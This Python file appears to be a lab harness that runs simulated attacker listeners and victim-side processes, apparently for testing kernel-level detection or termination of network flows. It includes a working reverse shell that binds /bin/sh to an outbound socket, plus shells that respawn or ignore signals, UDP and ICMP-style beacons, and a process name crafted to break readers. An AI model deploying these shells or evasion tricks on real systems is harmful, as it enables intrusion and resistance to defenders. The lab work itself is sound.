"""The processes of the kernel lab: an attacker with a listener for each kind of flow, and what runs on the victim.

Every line printed is one JSON event with the wall clock in seconds. Nothing here leaves the lab's namespaces.
"""
import ctypes, json, os, pty, resource, select, signal, socket, sys, threading, time

# As many open files as we may have: a container's root may not raise its own limit.
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)

TICKS = b"while :; do echo tick; sleep 0.1; done\n"


def say(**event):
    event["t"] = time.time()
    sys.stdout.write(json.dumps(event) + "\n")
    sys.stdout.flush()


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def listen(address, port, kind=socket.SOCK_STREAM):
    server = socket.socket(family(address), kind)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((address, port))
    if kind == socket.SOCK_STREAM:
        server.listen(4096)
    return server


def serve(listener, first):
    """Takes connections; sends `first` to each (a shell's command line) and tells of everything that arrives."""
    port = listener.getsockname()[1]

    def talk(peer):
        say(kind="accepted", port=port)
        try:
            if first:
                peer.sendall(first)
            while True:
                data = peer.recv(4096)
                if not data:
                    say(kind="eof", port=port)
                    return
                say(kind="data", port=port, bytes=len(data))
        except OSError as error:
            say(kind="reset" if error.errno == 104 else "error", port=port, errno=error.errno)

    while True:
        peer, _ = listener.accept()
        threading.Thread(target=talk, args=(peer,), daemon=True).start()


def serve_udp(server):
    while True:
        data, peer = server.recvfrom(4096)
        say(kind="data", port=server.getsockname()[1], bytes=len(data))
        server.sendto(b"ack", peer)


def serve_many(listener):
    """Holds thousands of connections in one thread, and lets go of those that end."""
    listener.setblocking(False)
    held, poll = {}, select.epoll()
    poll.register(listener.fileno(), select.EPOLLIN)
    while True:
        for descriptor, _ in poll.poll():
            if descriptor != listener.fileno():
                held.pop(descriptor).close()
                continue
            try:
                peer = listener.accept()[0]
            except OSError:
                continue  # Reset before it was taken.
            held[peer.fileno()] = peer
            poll.register(peer.fileno(), select.EPOLLIN)


def dial_in(address, port):
    """An inbound session: the attacker logs in on the victim and runs a command that prints for ever."""
    peer = socket.create_connection((address, port))
    say(kind="accepted", port=port)
    try:
        peer.sendall(TICKS)
        while True:
            data = peer.recv(4096)
            if not data:
                say(kind="eof", port=port)
                return
            say(kind="data", port=port, bytes=len(data))
    except OSError as error:
        say(kind="reset" if error.errno == 104 else "error", port=port, errno=error.errno)


def attacker():
    v4, v6, agent = "198.51.100.7", "2001:db8:a::7", "203.0.113.5"
    # All listen before the lab is told so: who is refused does not dial again. Those that hold 10,000 have a process of their own:
    # no limit on open files has to be raised.
    for port in (5000, 5001):
        crowd = listen(v4, port)
        if os.fork() == 0:
            serve_many(crowd)
        crowd.close()
    jobs = [
        (serve, listen(v4, 4444), TICKS), (serve, listen(v4, 4445), None), (serve, listen(v6, 4446), TICKS),
        (serve, listen(v4, 4447), TICKS), (serve, listen(v4, 4448), None), (serve, listen(v4, 4449), None),
        (serve, listen(agent, 443), None), (serve_udp, listen(v4, 5353, socket.SOCK_DGRAM)),
    ]
    for function, *arguments in jobs:
        threading.Thread(target=function, args=arguments, daemon=True).start()
    say(kind="ready")
    for line in sys.stdin:
        word, address, port = line.split()
        if word == "dial":
            threading.Thread(target=dial_in, args=(address, int(port)), daemon=True).start()


def reverse_shell(address, port):
    peer = socket.create_connection((address, int(port)))
    for descriptor in range(3):
        os.dup2(peer.fileno(), descriptor)
    pty.spawn(["/bin/sh"])


def respawning_shell(address, port):
    """Dials again 200 ms after every loss, in a new process each time."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        child = os.fork()
        if child == 0:
            try:
                peer = socket.create_connection((address, int(port)), 1)
                peer.settimeout(None)
                while True:
                    peer.sendall(b"tick\n")
                    time.sleep(0.1)
            except OSError:
                os._exit(0)
        os.waitpid(child, 0)
        time.sleep(0.2)


def stubborn_shell(address, port):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
        signal.signal(number, signal.SIG_IGN)
    peer = socket.create_connection((address, int(port)))
    while True:
        peer.sendall(b"tick\n")
        time.sleep(0.1)


def dormant_shell(address, port):
    peer = socket.create_connection((address, int(port)))
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 1)
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPINTVL, 1)
    # Linux's default gives up after nine; ours shall hold out while a deny stands.
    peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPCNT, 100)
    try:
        peer.recv(1)
    finally:
        time.sleep(3600)


def beacon(address, port):
    peer = socket.socket(family(address), socket.SOCK_DGRAM)
    peer.connect((address, int(port)))
    while True:
        peer.send(b"beacon")
        time.sleep(0.1)


def loose_beacon(address, port, source="0"):
    """Never connects: the kernel knows no peer of its socket. With a source port it binds to that first."""
    peer = socket.socket(family(address), socket.SOCK_DGRAM)
    if source != "0":
        peer.bind(("", int(source)))
    while True:
        try:
            peer.sendto(b"beacon", (address, int(port)))
        except OSError:
            pass  # The firewall; the socket is still there.
        time.sleep(0.1)


def sleeper(address, port):
    """Says nothing until it is told to wake, then a word every 100 ms."""
    peer = socket.create_connection((address, int(port)))
    sys.stdin.readline()
    while True:
        peer.sendall(b"tick\n")
        time.sleep(0.1)


def raw_shell(kind, address):
    """Holds a raw, packet or ping socket and sends an echo with it every 100 ms, as an ICMP tunnel does."""
    number = 1
    if kind == "packet":
        peer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    elif kind == "ping":
        peer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, number)
    else:
        peer = socket.socket(socket.AF_INET, socket.SOCK_RAW, number)
    say(kind="ready")
    while True:
        try:
            if kind != "packet":
                peer.sendto(b"\x08\0\xf7\xff\0\0\0\0", (address, 0))
        except PermissionError:
            pass  # The firewall; the socket is still there.
        time.sleep(0.1)


def login_server(address, port):
    listener = socket.socket(family(address))
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, int(port)))
    listener.listen()
    say(kind="ready")
    while True:
        peer, _ = listener.accept()
        if os.fork() == 0:
            listener.close()
            # What a login leaves behind on purpose, and no reset of its socket ends.
            if os.fork() == 0:
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                peer.close()
                os.execv("/bin/sleep", ["nohup-left-behind", "600"])
            for descriptor in range(3):
                os.dup2(peer.fileno(), descriptor)
            pty.spawn(["/bin/sh"])
            os._exit(0)
        peer.close()


def agent(address, port):
    peer = socket.create_connection((address, int(port)))
    while True:
        peer.sendall(b"heartbeat")
        time.sleep(0.1)


def lasting_agent(address, port):
    """One that dials again, as the real one does."""
    while True:
        try:
            peer = socket.create_connection((address, int(port)), 1)
            while True:
                peer.sendall(b"heartbeat")
                time.sleep(0.1)
        except OSError:
            time.sleep(0.5)


def named_shell(address, port, name):
    """A flow whose process has a name made to break its reader."""
    ctypes.CDLL(None).prctl(15, bytes.fromhex(name), 0, 0, 0)
    stubborn_shell(address, port)


def many(address, port, count):
    held = [socket.create_connection((address, int(port))) for _ in range(int(count))]
    say(kind="ready", held=len(held))
    time.sleep(3600)


def try_dial(address, port):
    try:
        socket.create_connection((address, int(port)), 1.5).close()
        say(kind="connected")
    except OSError as error:
        say(kind="refused", error=str(error))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
